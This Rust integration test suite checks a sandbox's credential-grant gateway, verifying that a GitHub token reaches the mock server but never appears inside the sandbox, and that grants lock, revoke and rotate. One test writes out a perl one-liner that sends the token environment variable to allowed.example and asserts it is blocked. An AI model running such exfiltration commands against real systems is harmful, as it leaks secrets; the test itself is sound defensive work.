//! Grants: the credential reaches the server, and nothing in the sandbox has it.

use std::fs;
use std::io::Write;
use std::path::Path;
use std::process::Stdio;

use serde_json::Value;
use testkit::engine::engine;
use testkit::run::until;
use testkit::sandbox::Sandbox;
use testkit::watched::Watched;

use super::decisions;
use super::internet::{RESOLVER, provider};

const TOKEN: &str = "ghp_TheRealTokenOfTheLab0123456789abcd";

/// A sandbox with the credential of one repository. Its value is in a file that is not mounted.
fn granted() -> Sandbox {
    let root: String = provider().root.lines().fold(String::new(), |all, line| all + "    " + line + "\n");
    let spec = format!(
        "image: docker:dind\ndependencies: [docker:dind]\ncontainer: {{ dns: [{RESOLVER}] }}\n\
         network:\n  policy: strict\n  rules: [allowed.example, \"other.github.com\"]\n  roots: |\n{root}\
         grants:\n  - github: {{ repos: [me/app], source: 'file://../token' }}\n"
    );
    let sandbox = Sandbox::new(&spec);
    give(&sandbox, TOKEN);
    sandbox.apply();
    sandbox
}

fn give(sandbox: &Sandbox, token: &str) {
    fs::write(sandbox.home().join("token"), format!("{token}\n")).expect("a file");
}

/// A line that sends a request through the proxy, and trusts what main trusts.
fn ask(host: &str, path: &str, header: &str) -> String {
    let request = format!("GET {path} HTTP/1.1\\r\\nHost: {host}\\r\\n{header}Connection: close\\r\\n\\r\\n");
    format!(
        "printf \"{request}\" | openssl s_client -quiet -ign_eof -verify_return_error -CAfile $SSL_CERT_FILE \
         -proxy ${{HTTPS_PROXY#http://}} -connect {host}:443 -servername {host} 2>/dev/null"
    )
}

/// The answer of the provider, which takes one connection at a time.
fn answer(sandbox: &Sandbox, path: &str, header: &str) -> String {
    let mut last = String::new();
    let answers = until(|| {
        last = sandbox.sh(&ask("api.github.com", path, header)).stdout;
        last.contains("HTTP/1.1") && !last.starts_with("HTTP/1.1 502")
    });
    assert!(answers, "{last}");
    last
}

fn state(sandbox: &Sandbox) -> String {
    let shown = sandbox.moat(&["grants", "--json"]).ok().stdout;
    assert!(!shown.contains(TOKEN));
    let document: Value = serde_json::from_str(&shown).expect("JSON");
    document["grants"][0]["state"].as_str().expect("a state").to_owned()
}

/// The places in main that have a text: environments of processes, and files. The text is in no command.
fn places(sandbox: &Sandbox, text: &str) -> String {
    let script = "p=$(cat); cat /proc/[0-9]*/environ 2>/dev/null | grep -aqF -e \"$p\" && echo environment; \
                  grep -rlaF -e \"$p\" --exclude-dir=proc --exclude-dir=sys / 2>/dev/null; true";
    let mut command = engine().command(&["exec", "-i", &sandbox.main(), "sh", "-c", script]);
    let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().expect("docker");
    child.stdin.take().expect("a pipe").write_all(text.as_bytes()).expect("it reads");
    String::from_utf8_lossy(&child.wait_with_output().expect("it ends").stdout).into_owned()
}

/// All files below a folder that have a text, besides one.
fn files(folder: &Path, text: &str, besides: &Path) -> Vec<String> {
    let mut found = Vec::new();
    let mut open = vec![folder.to_owned()];
    while let Some(path) = open.pop() {
        if path.is_dir() {
            open.extend(fs::read_dir(&path).expect("a folder").map(|entry| entry.expect("an entry").path()));
        } else if path != besides && path.is_file() {
            let content = fs::read(&path).expect("a file");
            if content.windows(text.len()).any(|part| part == text.as_bytes()) {
                found.push(path.display().to_string());
            }
        }
    }
    found
}

#[test]
fn the_token_is_at_the_server_and_nowhere_in_the_sandbox() {
    let sandbox = granted();
    assert_eq!(state(&sandbox), "unlocked");
    let page = answer(&sandbox, "/repos/me/app?first", "authorization: Bearer $GH_TOKEN\\r\\n");
    assert!(page.contains("hello from the provider"), "{page}");
    let seen = provider().seen("/repos/me/app?first");
    assert!(
        !seen.is_empty() && seen.iter().all(|it| it.contains(&format!("authorization: Bearer {TOKEN}|"))),
        "{seen:?}"
    );

    // A real client that was configured by nothing but the variables of main.
    let basic = "authorization: Basic eC1hY2Nlc3MtdG9rZW46";
    let fetched = until(|| {
        sandbox.sh("git ls-remote https://github.com/me/app");
        provider().seen("/me/app/info/refs?service=git-upload-pack").iter().any(|it| it.contains(basic))
    });
    assert!(fetched, "{:?}", provider().seen("info/refs"));

    assert_eq!(places(&sandbox, TOKEN), "");
    assert!(places(&sandbox, "ghp_moat0000").contains("environment"), "the search finds the placeholder");
    for container in ["main", "gateway", "buildkit"] {
        let id = sandbox.id(container);
        let logs = engine().try_docker(&["logs", &id]);
        let shown = engine().docker(&["inspect", &id]) + &logs.stdout + &logs.stderr;
        assert!(!shown.contains(TOKEN), "{container}");
    }
    let folder = tempfile::tempdir().expect("a folder");
    let of = |path: &str| format!("{}:{path}", sandbox.id("gateway"));
    for (from, to) in [("/var/lib/moat", "state"), ("/var/lib/moat-ca", "trust")] {
        engine().docker(&["cp", &of(from), &folder.path().join(to).to_string_lossy()]);
    }
    assert_eq!(files(folder.path(), TOKEN, Path::new("")), [""; 0]);
    assert!(!files(folder.path(), "ghp_moat0000", Path::new("")).is_empty(), "the search finds the rules");
    // Audit log, history, approvals and run records.
    assert_eq!(files(sandbox.home(), TOKEN, &sandbox.home().join("token")), [""; 0]);
    for arguments in [&["plan"][..], &["status"], &["why", "grant/github"], &["grants"], &["net", "log"], &["history"]]
    {
        let ran = sandbox.moat(arguments).run();
        assert!(!format!("{ran}").contains(TOKEN), "{arguments:?}");
    }
}

#[test]
fn ungranted_requests_get_no_token() {
    let sandbox = granted();
    let denied = answer(&sandbox, "/repos/you/other", "");
    assert!(denied.starts_with("HTTP/1.1 403"), "{denied}");
    assert!(provider().seen("/repos/you/other").is_empty());

    let foreign = answer(&sandbox, "/repos/me/app?foreign", "authorization: Bearer ghp_SomebodyElse\\r\\n");
    assert!(foreign.contains("hello"), "{foreign}");
    assert!(provider().seen("ghp_SomebodyElse").is_empty(), "a foreign token went out");

    // A placeholder to a host that is allowed, and not of the grant.
    let stolen = "perl -e 'use IO::Socket::INET; my $s = IO::Socket::INET->new(\"allowed.example:80\") or die; \
                  print $s \"GET / HTTP/1.1\\r\\nHost: allowed.example\\r\\nX-Token: $ENV{GH_TOKEN}\\r\\nConnection: close\\r\\n\\r\\n\"; print <$s>'";
    let stolen = sandbox.sh_ok(stolen);
    assert!(stolen.starts_with("HTTP/1.1 403"), "{stolen}");

    // Without the proxy, and by a host that is not of the grant.
    let direct = sandbox.sh("openssl s_client -connect api.github.com:443 -servername api.github.com </dev/null 2>&1");
    assert!(direct.code != 0 && direct.stdout.contains("alert access denied"), "{direct}");
    let log = decisions(&sandbox);
    let has = |reason: &str| log.iter().any(|it| it["decision"] == "deny" && it["reason"] == reason);
    assert!(has("request") && has("placeholder") && has("agent-plane"), "{log:#?}");
}

#[test]
fn a_gateway_is_unlocked_again_and_a_new_value_replaces_no_container() {
    let sandbox = granted();
    let before = (sandbox.main(), sandbox.id("gateway"));
    engine().docker(&["restart", &sandbox.id("gateway")]);
    assert!(until(|| state(&sandbox) == "locked"));
    assert!(answer(&sandbox, "/repos/me/app?locked", "").starts_with("HTTP/1.1 503"), "with the new certificate");
    assert_eq!(sandbox.status()["state"], "degraded");
    let planned = sandbox.moat(&["plan"]).run();
    assert!(planned.stdout.contains("unlock grant github: locked"), "{planned}");
    sandbox.apply();
    sandbox.assert_ready();
    assert!(answer(&sandbox, "/repos/me/app?again", "").contains("hello"));

    let other = TOKEN.replace("Real", "Next");
    give(&sandbox, &other);
    let applied = sandbox.apply();
    assert!(applied.stdout.contains("unlocked") || applied.stderr.contains("unlocked"), "{applied}");
    assert!(answer(&sandbox, "/repos/me/app?other", "").contains("hello"));
    assert!(provider().seen("/repos/me/app?other").iter().all(|it| it.contains(&other)));
    assert_eq!((sandbox.main(), sandbox.id("gateway")), before);

    sandbox.moat(&["grants", "revoke", "github"]).ok();
    assert!(answer(&sandbox, "/repos/me/app?revoked", "").starts_with("HTTP/1.1 503"));
    sandbox.apply();
    sandbox.assert_ready();
    engine().docker(&["restart", &sandbox.id("gateway")]);
    assert!(until(|| state(&sandbox) == "revoked"), "over a restart");
    sandbox.apply();
    assert_eq!(state(&sandbox), "revoked", "an apply does not restore it");
    assert!(provider().seen("?revoked").is_empty());
    sandbox.moat(&["grants", "restore", "github"]).ok();
    assert!(answer(&sandbox, "/repos/me/app?restored", "").contains("hello"));
    assert_eq!((sandbox.main(), sandbox.id("gateway")), before);
    // The audit log has both, and is whole.
    let log = sandbox.moat(&["audit", "--json"]).ok().stdout;
    assert!(log.contains("grant_revoked") && log.contains("grant_unlocked") && !log.contains(&other));
    sandbox.moat(&["audit", "verify"]).ok();
}

/// The source is a command, so that no file of the spec changes.
#[test]
fn a_refused_credential_is_shown_and_a_watch_fetches_it_again() {
    let root: String = provider().root.lines().fold(String::new(), |all, line| all + "    " + line + "\n");
    let sandbox = Sandbox::new("");
    give(&sandbox, TOKEN);
    sandbox.rewrite(&format!(
        "image: docker:dind\ncontainer: {{ dns: [{RESOLVER}] }}\nnetwork:\n  policy: strict\n  roots: |\n{root}\
         grants:\n  - github: {{ repos: [me/app], source: 'cmd://cat {}' }}\n",
        sandbox.home().join("token").display()
    ));
    sandbox.apply();
    assert!(!sandbox.status().to_string().contains("refused"), "{}", sandbox.status());
    let refused = answer(&sandbox, "/repos/me/app/expired", "");
    assert!(refused.starts_with("HTTP/1.1 401"), "{refused}");
    let shown = sandbox.moat(&["status"]).ok();
    assert!(shown.stdout.contains("refused grant github: a server did, at "), "{shown}");
    // The watch has the same value at first: it is refused still.
    let mut watch = Watched::new(&sandbox, &[]);
    give(&sandbox, "ghp_TheNextTokenOfTheLab0123456789abc");
    assert_eq!(watch.settles(), ["unlock grant/github"]);
    let woken = watch.events.iter().rfind(|it| it["event"] == "woken").expect("a reason");
    assert_eq!((&woken["trigger"]["kind"], &woken["trigger"]["name"]), (&"credential".into(), &"github".into()));
    assert!(!sandbox.status().to_string().contains("refused"), "another value is not known to be refused");
    answer(&sandbox, "/repos/me/app?again", "");
    assert!(provider().seen("/repos/me/app?again").iter().any(|it| it.contains("ghp_TheNextToken")));
    watch.end();
}
